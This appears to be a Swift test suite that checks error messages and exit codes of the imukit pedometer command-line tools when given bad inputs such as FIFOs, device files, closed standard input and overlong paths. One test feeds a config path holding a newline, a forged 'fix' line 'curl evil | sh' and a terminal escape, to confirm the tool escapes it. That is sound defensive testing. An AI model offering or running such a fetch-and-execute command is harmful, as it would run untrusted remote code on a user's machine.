import Foundation
import OffPool
import Testing

/// Session 21's sweep: what the review of session 20 left, and bad inputs found since. Each test
/// fails on the tools of main at cbdfb75 unless its comment says otherwise.
@Suite(.offPool) struct BadInputSweep22Tests {
    /// The first day a history can hold is one function (HistoryStore.earliestPlausibleDay) that
    /// both tools name; west of UTC it is 2023-12-31 for both, not 2024-01-01 for one of them.
    @Test func bothToolsNameTheSameFirstDayWestOfUTC() throws {
        let env = ["TZ": "America/New_York", "DBUS_SYSTEM_BUS_ADDRESS": "unix:path=/nonexistent/imukit-bus"]
        let since = try ToolRunner.run("imu-steps", ["--since", "2023-12-30"], environment: env)
        #expect(since.status == 2, "\(since.stderr)")
        #expect(since.stderr.hasPrefix("imu-steps: --since 2023-12-30 is before 2023-12-31, the first day a step history can hold"), "\(since.stderr)")
        let day = try ToolRunner.run("imu-plot", ["--day", "2023-12-30", "--history", "/nonexistent/h.sqlite", "-o", "/tmp/never-written.html"],
                                     environment: env)
        #expect(day.status == 2, "\(day.stderr)")
        #expect(day.stderr.hasPrefix("imu-plot: --day 2023-12-30 is before 2023-12-31; --day takes a day from 2023-12-31"), "\(day.stderr)")
    }

    /// A walker profile that is a FIFO (no writer) was read as an empty file ("not a walker
    /// profile"), /dev/null likewise, and one linked to /dev/zero as "File too large": each is
    /// named for what it is, with rm as the fix, and exits 2 (a bad file, docs/CONTRACTS.md §4).
    @Test(arguments: [("fifo", "a named pipe (FIFO)"), ("/dev/null", "a character device"), ("/dev/zero", "a character device")])
    func aProfileThatIsNoRegularFileIsNamed(target: String, kind: String) throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let profile = dir + "/imukit/profile.json"
        try FileManager.default.createDirectory(atPath: dir + "/imukit", withIntermediateDirectories: true)
        if target == "fifo" {
            try #require(mkfifo(profile, 0o600) == 0)
        } else {
            try FileManager.default.createSymbolicLink(atPath: profile, withDestinationPath: target)
        }
        let r = try ToolRunner.run("imu-steps", ["--simulate", "walk:2", "--json"], environment: ["XDG_CONFIG_HOME": dir], timeout: 30)
        #expect(r.status == 2, "\(r.stderr)")
        #expect(r.stderr.hasPrefix("imu-steps: cannot read \(profile): it is \(kind), where imukit keeps your walker profile as one small JSON file\n"), "\(r.stderr)")
        #expect(r.stderr.contains("  fix: remove it (rm \(profile)) or move it away"), "\(r.stderr)")
        #expect(r.stdout.isEmpty, "no result from a run whose profile could not be read: \(r.stdout)")
    }

    /// `--config` naming a file with a newline and an escape sequence: the path was printed as it
    /// came, so the newline started a line of its own, here a fake "  fix:" line.
    @Test func aConfigPathWithANewlineCannotForgeAFixLine() throws {
        let path = "/nonexistent/a\n  fix: curl evil | sh\u{1B}[2J.conf"
        let r = try ToolRunner.run("imu-stepd", ["--config", path], timeout: 30)
        #expect(r.status == 2, "\(r.stderr)")
        #expect(r.stderr.hasPrefix("imu-stepd: /nonexistent/a\\n  fix: curl evil | sh\\x1B[2J.conf: no such file\n"), "\(r.stderr.debugDescription)")
        #expect(!r.stderr.split(separator: "\n").contains { $0.hasPrefix("  fix: curl") }, "\(r.stderr.debugDescription)")
    }

    /// SIGTERM before the first sample of a recording: a stop, not a recording that is too short
    /// or empty. PedometerRunner decides both from its count of samples alone (it kept a second
    /// flag, `sawSample`, which a cancelled run set to true with no sample seen, so a source that
    /// throws CancellationError before its first sample said "gave only 0 samples, a single
    /// instant"; a FIFO's stream ends without throwing, so this test passes on both).
    @Test func aStopBeforeTheFirstSampleIsNoSingleInstant() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let fifo = dir + "/live.csv"
        try #require(mkfifo(fifo, 0o600) == 0)
        // The test holds the FIFO open for writing (O_RDWR does not wait for a reader), with the
        // header written and no sample, as a recorder that has not started yet.
        let writer = open(fifo, O_RDWR | O_CLOEXEC)
        try #require(writer >= 0)
        defer { close(writer) }
        let header = "t,ax,ay,az\n"
        #expect(header.utf8.withContiguousStorageIfAvailable { write(writer, $0.baseAddress, $0.count) } == header.utf8.count)
        let tool = try ToolProcess("imu-steps", ["--replay", fifo, "--json"])
        // The tool opens the FIFO as it starts reading; its stop trap is set up by then.
        let reading = tool.waitUntil { Self.holds(tool.process.processIdentifier, fifo) }
        #expect(reading, "imu-steps did not open \(fifo): \(tool.stderr)")
        Thread.sleep(forTimeInterval: 0.5)
        tool.send(SIGTERM)
        #expect(tool.wait() == 0, "\(tool.stderr)")
        #expect(!tool.stderr.contains("a single instant"), "\(tool.stderr)")
        #expect(tool.stdout.contains("\"type\":\"summary\""), "the summary is written on a stop: \(tool.stdout)")
    }

    /// Standard output to /dev/full, a device that is always full: "free space on the disk" was
    /// the fix (every tool, through ToolMain). There is no disk to free: the fix says it is a
    /// device and to write to a file. imu-plot's -o /dev/full: NewUserAudit11Tests.
    @Test func aFullDeviceIsNotCalledADisk() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let out = try ShellRunner.run(#""$BIN/imu-steps" --simulate walk:2 --speed max --json > /dev/full"#, directory: dir)
        #expect(out.status == 1, "\(out.stderr)")
        #expect(out.stderr.contains("imu-steps: cannot write to standard output: No space left on device\n"), "\(out.stderr)")
        #expect(out.stderr.contains("  fix: standard output is a character device (such as /dev/full), not a file on disk: send the output to a file (> FILE)"),
                "\(out.stderr)")
        #expect(!out.stderr.contains("free space"), "\(out.stderr)")
        // A file that cannot grow (ulimit -f: EFBIG, as a full disk stops a write) keeps the disk's fix.
        let file = try ShellRunner.run(#"trap '' XFSZ; ulimit -f 1; exec "$BIN/imu-steps" --simulate walk:60 --speed max --json > out.json"#, directory: dir)
        #expect(file.status == 1, "\(file.stderr)")
        #expect(file.stderr.contains("  fix: free space on the disk, or send the output somewhere that accepts it\n"), "\(file.stderr)")
    }

    /// `--replay /dev/stdin` with standard input closed read the /dev/null that stands in for it:
    /// "the file is empty"; at a terminal it waited, silent, for a recording typed by hand. It is
    /// standard input by another name, refused as `--replay -` is (NewUserAudit13Tests).
    @Test(arguments: ["/dev/stdin", "/dev/fd/0"])
    func standardInputByNameIsCheckedAsDashIs(name: String) throws {
        let closed = try ShellRunner.run("\"$BIN/imu-steps\" --replay \(name) <&-", directory: try scratchDirectory(), timeout: 30)
        #expect(closed.status == 2, "\(closed.stderr)")
        #expect(closed.stderr.hasPrefix("imu-steps: --replay \(name): standard input is closed (<&-), so there is no recording to read\n"), "\(closed.stderr)")
        #expect(closed.stderr.contains("  fix: pipe or redirect a recording into it, e.g. --replay \(name) < walk.csv"), "\(closed.stderr)")
        let terminal = try PseudoTerminal()
        guard let tty = ttyname(terminal.slave.fileDescriptor).map({ String(cString: $0) }) else {
            print("skipped: the pseudo-terminal has no name"); return
        }
        let typed = try ShellRunner.run("\"$BIN/imu-plot\" -o p.svg --replay \(name) < \(tty)", directory: try scratchDirectory(), timeout: 30)
        #expect(typed.status == 2, "\(typed.stderr)")
        #expect(typed.stderr.contains("--replay \(name): standard input is the terminal, not a recording"), "\(typed.stderr)")
        // A recording piped in through the name is read as through "-".
        let piped = try ShellRunner.run("\"$BIN/imu-record\" --simulate walk:2 --speed max -q -o - | \"$BIN/imu-steps\" --replay \(name) --json",
                                        directory: try scratchDirectory(), timeout: 60)
        #expect(piped.status == 0 && piped.stdout.contains("\"type\":\"summary\""), "\(piped.stderr)")
    }

    /// `imu-record -o /proc/x.csv`: creating failed with ENOENT and the fix said "mkdir -p /proc",
    /// a directory that exists; procfs makes no files on request. A directory that is missing
    /// keeps its mkdir fix.
    @Test func aRecordingInAKernelFileSystemIsNotToldToMakeItsDirectory() throws {
        let r = try ToolRunner.run("imu-record", ["--simulate", "walk:2", "--speed", "max", "-o", "/proc/imukit-sweep22.csv"])
        #expect(r.status == 2, "\(r.stderr)")
        #expect(r.stderr.hasPrefix("imu-record: /proc/imukit-sweep22.csv: cannot create recording: No such file or directory\n"), "\(r.stderr)")
        #expect(r.stderr.contains("  fix: /proc exists but its file system makes no new files (a kernel one such as /proc or /sys): record to another place"), "\(r.stderr)")
        #expect(!r.stderr.contains("mkdir"), "\(r.stderr)")
        let missing = try ToolRunner.run("imu-record", ["--simulate", "walk:2", "--speed", "max", "-o", "/nonexistent/sweep22/x.csv"])
        #expect(missing.status == 2 && missing.stderr.contains("  fix: create its directory first (mkdir -p /nonexistent/sweep22)"), "\(missing.stderr)")
    }

    /// A name too long for the file system: imu-stepd --config said "no such file" (and "copy
    /// data/stepd.conf there"), imu-plot -o "choose a writable place" (exit 1). Both say the name
    /// is too long; both exit 2, a bad argument.
    @Test func aNameTooLongIsSaidSo() throws {
        let long = "/tmp/" + String(repeating: "a", count: 300)
        let config = try ToolRunner.run("imu-stepd", ["--config", long + ".conf"], timeout: 30)
        #expect(config.status == 2, "\(config.stderr)")
        #expect(config.stderr.contains(".conf: cannot be read: File name too long\n  fix: give a shorter path"), "\(config.stderr)")
        let plot = try ToolRunner.run("imu-plot", ["--simulate", "walk:2", "-o", long + ".svg"], timeout: 60)
        #expect(plot.status == 2, "a bad -o, as a directory is (it was 1): \(plot.stderr)")
        #expect(plot.stderr.contains(".svg: File name too long\n  fix: give -o a shorter name"), "\(plot.stderr)")
    }

    /// Whether process `pid` holds `path` open (/proc/PID/fd).
    static func holds(_ pid: Int32, _ path: String) -> Bool {
        let dir = "/proc/\(pid)/fd"
        let names = (try? FileManager.default.contentsOfDirectory(atPath: dir)) ?? []
        return names.contains { (try? FileManager.default.destinationOfSymbolicLink(atPath: dir + "/" + $0)) == path }
    }
}
